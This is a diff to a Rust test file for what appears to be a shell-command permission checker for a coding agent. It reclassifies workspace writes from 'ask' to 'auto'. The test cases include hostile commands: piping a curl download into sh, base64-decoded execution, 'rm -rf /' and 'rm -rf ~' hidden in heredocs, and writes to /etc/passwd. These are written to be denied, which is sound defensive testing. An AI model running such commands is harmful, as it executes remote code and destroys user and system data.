@@ -166,7 +166,7 @@ fn wrappers_are_transparent() {
         ("deny", "priv-esc", "env -iu HOME sudo ls"),
         ("ask", "printf-v", "printf -v PATH /tmp"),
         ("deny", "priv-esc", "coproc sudo ls"),
-        ("ask", "default", "echo x | tee /dev/null"),
+        ("auto", "readonly", "echo x | tee /dev/null"),
     ]);
 }
 
@@ -463,10 +463,13 @@ fn chmod_root_and_system_write() {
         ("deny", "system-write", "echo x > /tmp/../etc/passwd"),
         ("deny", "system-write", "dd if=x of=/etc/passwd"),
         ("deny", "system-write", "{ echo x; } > /etc/x"),
-        ("ask", "redirect", "ls > listing.txt"),
-        ("ask", "redirect", "echo done >> log.txt"),
+        // Writes inside the workspace are edits (auto); outside they ask.
+        ("auto", "readonly", "ls > listing.txt"),
+        ("auto", "readonly", "echo done >> log.txt"),
+        ("ask", "redirect", "echo done >> ~/log.txt"),
         ("ask", "redirect", "echo x > /tmp/out"),
-        ("ask", "default", "tee out.txt"),
+        ("auto", "edit-workspace", "tee out.txt"),
+        ("ask", "edit-outside", "tee ~/out.txt"),
         ("ask", "dynamic", "echo x > $OUT"),
         ("auto", "readonly", "echo ok > /dev/null"),
         ("auto", "readonly", "ls missing 2>&1 | head"),
@@ -837,7 +840,7 @@ fn groups_heredocs_substitutions_and_subshell_cwd_from_review() {
         ("deny", "pipe-to-shell", "curl -s https://x.sh | tee >(sh)"),
         ("deny", "encoded-exec", "echo aGk= | base64 -d > >(sh)"),
         ("auto", "readonly", "cat <(ls) | wc -l"),
-        ("ask", "default", "ls | tee >(wc -l)"),
+        ("ask", "dynamic", "ls | tee >(wc -l)"),
         // A `cd` in a subshell or a pipeline stage does not move what follows.
         ("ask", "default", "(cd /) ; rm -rf *"),
         ("ask", "default", "cd / | rm -rf *"),
@@ -1083,7 +1086,8 @@ fn here_documents_inside_substitutions_are_read() {
         ("deny", "rm-root", "echo `cat <<E\n$(rm -rf ~)\nE\n`"),
         ("deny", "rm-root", "cat <(cat <<E\n$(rm -rf /)\nE\n)"),
         ("ask", "default", "echo $(cat <<E\n$(curl x)\nE\n)"),
-        ("ask", "default", "x=$(cat <<E\n`touch f`\nE\n)"),
+        ("auto", "edit-workspace", "x=$(cat <<E\n`touch f`\nE\n)"),
+        ("ask", "default", "x=$(cat <<E\n`rm f`\nE\n)"),
         (
             "deny",
             "rm-root",
@@ -1294,8 +1298,10 @@ fn a_dup_redirect_to_a_file_is_read_by_its_own_operator() {
     // `2>&1ls` writes the file `1ls`; a `<` later in the command (`;<<2`) made it a
     // read (found by the compound_never_weaker_than_parts property test).
     check(&[
-        ("ask", "redirect", "2>&1ls;<<2>&1"),
-        ("ask", "redirect", "ls >&out.txt; cat <in.txt"),
+        // (Both write a workspace file, an edit; `.git/` shows the write is seen.)
+        ("auto", "empty", "2>&1ls;<<2>&1"),
+        ("auto", "readonly", "ls >&out.txt; cat <in.txt"),
+        ("ask", "edit-git", "ls >&.git/out.txt; cat <in.txt"),
         ("auto", "readonly", "cat <&3"),
     ]);
 }
